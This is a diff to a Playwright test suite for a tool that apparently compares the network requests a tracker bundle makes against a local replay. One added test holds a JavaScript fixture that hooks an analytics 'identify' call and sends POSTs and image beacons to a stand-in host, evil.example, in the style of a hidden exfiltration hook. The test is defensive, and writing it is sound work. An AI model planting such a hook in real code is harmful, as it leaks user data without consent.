@@ -6,6 +6,7 @@ No edge is there, and whatever is no file is aborted and counted: nothing may be
 import dataclasses
 import datetime as dt
 import gzip
+import re
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
@@ -137,7 +138,11 @@ def test_failure_shows_from_disk_and_no_more_with_the_right_build(
     )
     put_right(place, IDENTIFY, library)
     page.reload()
+    limit = page.get_by_text("after the last call")
+    expect(limit).to_have_text(re.compile("^at most [4-9] s after the last call$"))
+    expect(limit).to_be_visible()
     expect_state(page, "Does not show here")
+    expect(limit).to_be_hidden()
     expect(page.locator(".event.invocation code")).to_contain_text("jane.kim@example.com")
 
 
@@ -204,6 +209,16 @@ def test_a_tracker_that_is_missing_is_missing_here(kept: Kept, opened: Open) -> 
     expect_state(page, "Does not show here")
 
 
+def test_a_page_says_how_long_a_late_tracker_is_waited_for(kept: Kept, opened: Open) -> None:
+    late = dataclasses.replace(
+        requirement(IDENTIFY), conditions=Conditions(tracker="very late functions")
+    )
+    page = opened(kept(late, DROPS_EMAIL))
+    expect(page.locator(".limit")).to_have_text(
+        re.compile("^60 s for a tracker that comes late, then the calls, at most [0-9]+ s after")
+    )
+
+
 def test_a_tracker_can_be_on_the_page_itself(kept: Kept, opened: Open) -> None:
     there = dataclasses.replace(
         requirement(IDENTIFY), conditions=Conditions(tracker="on the page", strict_policy=True)
@@ -241,6 +256,53 @@ def test_what_a_page_sends_stays_in_it_and_is_told(kept: Kept, opened: Open) -> 
         "POST https://elsewhere.example/beacon b",
         "POST https://elsewhere.example/fetched a=1",
     ]
+
+
+def test_each_request_that_nobody_claimed_is_looked_for_once(kept: Kept, opened: Open) -> None:
+    sends = """
+    const { identify } = Reference.prototype;
+    const post = (url) => {
+      const headers = { "Content-Type": "application/json" };
+      fetch(url, { method: "POST", headers, body: "{}" }).catch(() => {});
+    };
+    Reference.prototype.identify = function (facade) {
+      identify.call(this, facade);
+      const isRun = location.protocol === "https:";
+      const id = location.protocol;
+      if (isRun) post("https://evil.example/token/post");
+      new Image().src = `https://evil.example/c?id=${id}`;
+      post("https://both.example/preflighted");
+      new Image().src = "https://twice.example/pixel";
+      if (isRun) setTimeout(() => { new Image().src = "https://twice.example/pixel?again"; });
+      new Image().src = `https://each.example/${id}`;
+    };
+    module.exports = Reference;
+    """
+    page = opened(kept(IDENTIFY, sends))
+    expect_state(page, "3 of 6 differences show here")
+    told = {
+        card.locator("code.run").text_content(): (
+            card.locator(".head b").text_content(),
+            card.locator(".now").text_content(),
+        )
+        for card in page.locator(".card").all()
+    }
+    shows, gone, unknown = "shows here, too", "does not show here", "cannot be told here"
+    asked = "GET https://each.example/file:"
+    assert told == {
+        "'OPTIONS https://evil.example/token/post'": (gone, "(nothing)"),
+        "'GET https://evil.example/c?id=https:'": (shows, "GET https://evil.example/c?id=file:"),
+        "'OPTIONS https://both.example/preflighted'": (
+            shows,
+            "POST https://both.example/preflighted (here it needs no preflight)",
+        ),
+        "'GET https://twice.example/pixel'": (shows, "GET https://twice.example/pixel"),
+        "'GET https://twice.example/pixel?again'": (gone, "(nothing)"),
+        "'GET https://each.example/https:'": (
+            unknown,
+            f"not seen here, but another request to this host: {asked}",
+        ),
+    }
 
 
 def test_what_nothing_stands_in_for_is_kept_from_leaving(kept: Kept, opened: Open) -> None:
@@ -426,6 +488,21 @@ def test_tokens_of_contracts_of_ones_own_are_masked(
     expect(page.get_by_role("note")).to_contain_text("Tokens and keys are masked")
     shown = failures.keep(outcome, bundles, tmp_path / "shown", show_secrets=True)
     assert secret in (shown.parent / "answers.js").read_bytes()
+    assert "made up" not in shown.with_name("README.md").read_text(encoding="utf-8")
+    page = opened(shown)
+    page.get_by_text("The run", exact=True).click()
+    expect(page.locator(".facts")).to_contain_text(secret.decode())
+    expect(page.locator(".facts")).not_to_contain_text("made up")
+
+
+def test_the_account_of_a_bundle_is_said_to_be_made_up(kept: Kept, opened: Open) -> None:
+    place = kept(IDENTIFY, DROPS_EMAIL)
+    assert "account: made up" in place.with_name("README.md").read_text(encoding="utf-8")
+    page = opened(place)
+    page.get_by_text("The run", exact=True).click()
+    told = page.locator(".facts")
+    expect(told).to_contain_text("e3b0c44298fc")
+    expect(told).to_contain_text("made up for the harness: its tokens and keys open nothing")
 
 
 def test_check_keeps_bundles_and_tells_where(
